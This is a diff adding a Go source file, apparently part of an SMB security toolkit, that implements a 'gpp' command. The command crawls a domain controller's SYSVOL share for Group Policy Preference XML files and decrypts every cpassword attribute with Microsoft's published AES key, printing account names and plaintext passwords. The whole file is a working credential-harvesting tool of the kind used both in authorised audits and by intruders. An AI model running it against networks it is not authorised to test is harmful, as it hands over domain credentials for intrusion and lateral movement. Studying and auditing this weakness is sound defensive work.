@@ -0,0 +1,205 @@
+package main
+
+import (
+	"bytes"
+	"crypto/aes"
+	"crypto/cipher"
+	"encoding/base64"
+	"encoding/xml"
+	"flag"
+	"fmt"
+	"io"
+	"os"
+	"regexp"
+	"strings"
+
+	"github.com/ericblavier/go-smb/smb"
+	"github.com/ericblavier/go-smb/smb/encoder"
+)
+
+// AES key Microsoft published for the cpassword attribute of Group Policy
+// Preferences in MS-GPPREF Section 2.2.1.1.4
+var gppKey = []byte{
+	0x4e, 0x99, 0x06, 0xe8, 0xfc, 0xb6, 0x6c, 0xc9, 0xfa, 0xf4, 0x93, 0x10, 0x62, 0x0f, 0xfe, 0xe8,
+	0xf4, 0x96, 0xe8, 0x06, 0xcc, 0x05, 0x79, 0x90, 0x20, 0x9b, 0x09, 0xa4, 0x33, 0xb6, 0x6c, 0x1b,
+}
+
+// Preference files that may carry a cpassword attribute
+var gppFiles = map[string]bool{
+	"groups.xml":         true,
+	"services.xml":       true,
+	"scheduledtasks.xml": true,
+	"datasources.xml":    true,
+	"printers.xml":       true,
+	"drives.xml":         true,
+}
+
+// Attributes naming the account a cpassword belongs to, by preference
+var gppUserAttrs = []string{"userName", "runAs", "accountName", "username", "newName"}
+
+var gpoGuid = regexp.MustCompile(`(?i)\{[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}\}`)
+
+// A password found in a preference file
+type gppFinding struct {
+	Path     string `json:"path"`
+	GPO      string `json:"gpo"`
+	Element  string `json:"element"`
+	User     string `json:"user"`
+	Password string `json:"password"`
+	Changed  string `json:"changed,omitempty"`
+}
+
+// decryptCPassword decrypts the cpassword attribute of a preference
+func decryptCPassword(cpassword string) (string, error) {
+	// The base64 padding is stripped from the attribute
+	if n := len(cpassword) % 4; n != 0 {
+		cpassword += strings.Repeat("=", 4-n)
+	}
+	data, err := base64.StdEncoding.DecodeString(cpassword)
+	if err != nil {
+		return "", err
+	}
+	if len(data) == 0 || len(data)%aes.BlockSize != 0 {
+		return "", fmt.Errorf("Invalid cpassword length %d", len(data))
+	}
+	block, err := aes.NewCipher(gppKey)
+	if err != nil {
+		return "", err
+	}
+	cipher.NewCBCDecrypter(block, make([]byte, aes.BlockSize)).CryptBlocks(data, data)
+	pad := int(data[len(data)-1])
+	if pad == 0 || pad > aes.BlockSize || pad > len(data) {
+		return "", fmt.Errorf("Invalid cpassword padding")
+	}
+	return encoder.FromUnicodeString(data[:len(data)-pad])
+}
+
+// parseGPP returns the passwords of a preference file. The changed
+// timestamp is taken from the element holding the properties.
+func parseGPP(data []byte) (findings []gppFinding, err error) {
+	d := xml.NewDecoder(bytes.NewReader(data))
+	// Preference files declare UTF-8 but are read as is whatever they declare
+	d.CharsetReader = func(label string, input io.Reader) (io.Reader, error) {
+		return input, nil
+	}
+	var parents []xml.StartElement
+	for {
+		token, err := d.Token()
+		if err == io.EOF {
+			return findings, nil
+		} else if err != nil {
+			return findings, err
+		}
+		switch el := token.(type) {
+		case xml.StartElement:
+			attrs := make(map[string]string)
+			for _, attr := range el.Attr {
+				attrs[attr.Name.Local] = attr.Value
+			}
+			if cpassword := attrs["cpassword"]; cpassword != "" {
+				finding := gppFinding{Element: el.Name.Local}
+				if len(parents) > 0 {
+					finding.Element = parents[len(parents)-1].Name.Local
+					for _, attr := range parents[len(parents)-1].Attr {
+						if attr.Name.Local == "changed" {
+							finding.Changed = attr.Value
+						}
+					}
+				}
+				for _, name := range gppUserAttrs {
+					if attrs[name] != "" {
+						finding.User = attrs[name]
+						break
+					}
+				}
+				if finding.Password, err = decryptCPassword(cpassword); err != nil {
+					finding.Password = "<" + err.Error() + ">"
+				}
+				findings = append(findings, finding)
+			}
+			parents = append(parents, el)
+		case xml.EndElement:
+			if len(parents) > 0 {
+				parents = parents[:len(parents)-1]
+			}
+		}
+	}
+}
+
+// huntGPP walks a directory of SYSVOL and reports the passwords of the
+// preference files below it
+func huntGPP(conn *smb.Connection, t target, dir string, report func(gppFinding)) {
+	files, err := conn.ListDirectory(t.share, dir, "*")
+	if err != nil {
+		t.path = dir
+		fmt.Fprintf(os.Stderr, "Failed to list %s: %s\n", t, err)
+		return
+	}
+	for _, file := range files {
+		if file.Name == "." || file.Name == ".." || file.IsJunction {
+			continue
+		}
+		if file.IsDir {
+			huntGPP(conn, t, file.FullPath, report)
+			continue
+		}
+		if !gppFiles[strings.ToLower(file.Name)] {
+			continue
+		}
+		t.path = file.FullPath
+		f, err := conn.OpenFile(t.share, file.FullPath)
+		if err != nil {
+			fmt.Fprintf(os.Stderr, "Failed to open %s: %s\n", t, err)
+			continue
+		}
+		data, err := io.ReadAll(f)
+		f.CloseFile()
+		if err != nil {
+			fmt.Fprintf(os.Stderr, "Failed to read %s: %s\n", t, err)
+			continue
+		}
+		findings, err := parseGPP(data)
+		if err != nil {
+			fmt.Fprintf(os.Stderr, "Failed to parse %s: %s\n", t, err)
+		}
+		for _, finding := range findings {
+			finding.Path = t.String()
+			finding.GPO = gpoGuid.FindString(file.FullPath)
+			report(finding)
+		}
+	}
+}
+
+func runGPP(args []string) error {
+	fs := flag.NewFlagSet("gpp", flag.ExitOnError)
+	share := fs.String("share", "SYSVOL", "Share holding the group policies")
+	fs.Parse(args)
+	if fs.NArg() != 1 {
+		return fmt.Errorf("Usage: gpp [-share name] <dc>")
+	}
+	t := target{host: fs.Arg(0), share: *share}
+	conn, err := connectShare(t)
+	if err != nil {
+		return err
+	}
+	defer conn.Close()
+
+	found := 0
+	huntGPP(conn, t, "", func(finding gppFinding) {
+		found++
+		if *jsonOutput {
+			emit(finding)
+			return
+		}
+		fmt.Printf("%s\n", finding.Path)
+		fmt.Printf("  %-10s %s\n", "GPO", finding.GPO)
+		fmt.Printf("  %-10s %s\n", "Element", finding.Element)
+		fmt.Printf("  %-10s %s\n", "User", finding.User)
+		fmt.Printf("  %-10s %s\n", "Password", finding.Password)
+		fmt.Printf("  %-10s %s\n", "Changed", finding.Changed)
+	})
+	if !*jsonOutput {
+		fmt.Fprintf(os.Stderr, "%d passwords found\n", found)
+	}
+	return nil
+}